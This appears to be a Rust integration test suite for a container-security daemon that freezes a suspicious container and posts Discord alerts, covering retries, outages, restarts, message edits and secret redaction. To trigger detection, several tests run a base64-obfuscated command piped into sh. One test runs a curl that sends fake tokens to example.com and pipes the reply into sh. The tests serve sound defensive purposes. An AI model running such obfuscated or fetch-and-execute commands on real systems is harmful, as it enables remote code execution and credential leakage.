//! Discord fails in every way it can: each alert arrives later, a repeat only where acceptance is unknown.

use std::time::{Duration, Instant};

use test_support::peer::{Behaviour, Received};
use test_support::{Container, World, discord::Discord, eventually, image, kernel};

use crate::{PATIENCE, alert, gateway, paused, world};

/// A message without the backslashes that keep markdown harmless.
fn seen(message: &Received) -> String {
    message.all().replace('\\', "")
}

/// One HIGH alert, then a freeze; gives how long the freeze took from the start of the attack.
fn attack(world: &World, container: &Container) {
    container
        .exec(&["sh", "-c", "echo aWQgPi9kZXYvbnVsbAo= | base64 -d | sh"])
        .expect_ok();
    alert(world, "openclaw-gateway", "high");
    let _attacker = container.spawn(&["/bin/attacker", "mount"]);
    let begin = Instant::now();
    paused(container);
    assert!(
        begin.elapsed() < Duration::from_secs(8),
        "the quarantine waited for Discord: {:?}",
        begin.elapsed()
    );
}

fn failing(script: &[Behaviour], repeats_allowed: bool) {
    let discord = Discord::start();
    discord.script(script.iter().copied());
    let world = world().discord(&discord.base_url()).start();
    let container = gateway(&world);
    attack(&world, &container);
    let accepted = eventually("both alerts at Discord", Duration::from_secs(60), || {
        let accepted = discord.accepted();
        let text: Vec<String> = accepted.iter().map(seen).collect();
        (text.iter().any(|t| t.contains("A-1")) && text.iter().any(|t| t.contains("A-2")))
            .then_some(text)
    });
    let unmarked_a1 = accepted
        .iter()
        .filter(|t| t.contains("A-1") && !t.to_lowercase().contains("repeat"))
        .count();
    assert!(
        unmarked_a1 <= 1,
        "A-1 arrived {unmarked_a1} times without a mark: {accepted:?}"
    );
    if !repeats_allowed {
        assert_eq!(accepted.len(), 2, "{accepted:?}");
        assert!(
            accepted
                .iter()
                .all(|t| !t.to_lowercase().contains("repeat")),
            "{accepted:?}"
        );
    }
    assert!(discord.malformed().is_empty(), "{:?}", discord.malformed());
    world.barrier();
    assert_eq!(world.status()["losses"]["queue_dropped_records"], 0);
}

#[test]
fn after_429_and_500_each_alert_arrives_once() {
    if kernel::wanted("after_429_and_500_each_alert_arrives_once") {
        failing(
            &[
                Behaviour::TooMany(1.5),
                Behaviour::Status(500),
                Behaviour::Status(503),
            ],
            false,
        );
    }
}

#[test]
fn after_no_answer_the_repeat_is_marked() {
    if kernel::wanted("after_no_answer_the_repeat_is_marked") {
        failing(&[Behaviour::TakeAndClose, Behaviour::CloseAfterRead], true);
    }
}

#[test]
fn a_discord_that_hangs_holds_nothing_up() {
    if kernel::wanted("a_discord_that_hangs_holds_nothing_up") {
        failing(&[Behaviour::Hang], true);
    }
}

#[test]
fn messages_survive_a_kill_of_the_daemon() {
    if !kernel::wanted("messages_survive_a_kill_of_the_daemon") {
        return;
    }
    let discord = Discord::start();
    discord.always(Behaviour::Status(500));
    let mut world = world().discord(&discord.base_url()).start();
    let container = gateway(&world);
    container
        .exec(&["sh", "-c", "echo aWQgPi9kZXYvbnVsbAo= | base64 -d | sh"])
        .expect_ok();
    alert(&world, "openclaw-gateway", "high");
    eventually("an attempt", PATIENCE, || {
        (!discord.received().is_empty()).then_some(())
    });
    world.kill();
    discord.always(Behaviour::Ok);
    world.start();
    let accepted = discord.wait_accepted(1, Duration::from_secs(60));
    assert!(seen(&accepted[0]).contains("A-1"), "{accepted:?}");
}

/// Secrets on a command line leave the host in no message.
#[test]
fn no_secret_leaves_the_host() {
    if !kernel::wanted("no_secret_leaves_the_host") {
        return;
    }
    let discord = Discord::start();
    let world = world().discord(&discord.base_url()).start();
    let container = world
        .docker
        .container("openclaw-gateway", image::build())
        .start();
    crate::settled(&world, &container);
    let secret = "sk-ant-api03-Zx9Qw8Er7Ty6Ui5Op4As3Df2Gh1Jk0LzXcVbNm";
    let command = format!(
        "TOKEN={secret} true; curl -H 'Authorization: Bearer {secret}' https://user:hunter2secret@example.com/x 2>/dev/null | sh"
    );
    container.exec(&["sh", "-c", &command]);
    alert(&world, "openclaw-gateway", "high");
    let accepted = discord.wait_accepted(1, Duration::from_secs(30));
    for message in discord.received() {
        assert!(
            !message.all().contains(secret) && !message.all().contains("hunter2secret"),
            "{}",
            message.all()
        );
    }
    assert!(
        seen(&accepted[0]).contains("openclaw-gateway"),
        "{accepted:?}"
    );
    // The host's own history has all of it.
    let log = world.log();
    assert!(
        !log.contains(test_support::discord::TOKEN),
        "the webhook's token is in the daemon's log"
    );
}

/// The same again is the same message, edited.
#[test]
fn an_alert_that_repeats_is_one_message_that_is_edited() {
    if !kernel::wanted("an_alert_that_repeats_is_one_message_that_is_edited") {
        return;
    }
    let discord = Discord::start();
    let world = world().discord(&discord.base_url()).start();
    let container = gateway(&world);
    let again = || {
        let deed = "echo aWQgPi9kZXYvbnVsbAo= | base64 -d | sh";
        container.exec(&["sh", "-c", deed]).expect_ok();
    };
    again();
    discord.wait_accepted(1, Duration::from_secs(30));
    again();
    again();
    let edit = eventually("the edit", Duration::from_secs(60), || {
        let edits = discord.accepted();
        edits.into_iter().find(|m| m.path.contains("/messages/"))
    });
    assert!(seen(&edit).contains("How often"), "{}", seen(&edit));
    let posted = discord.accepted();
    let posted = posted.iter().filter(|m| !m.path.contains("/messages/"));
    assert_eq!(posted.count(), 1);
    assert!(discord.malformed().is_empty(), "{:?}", discord.malformed());
}
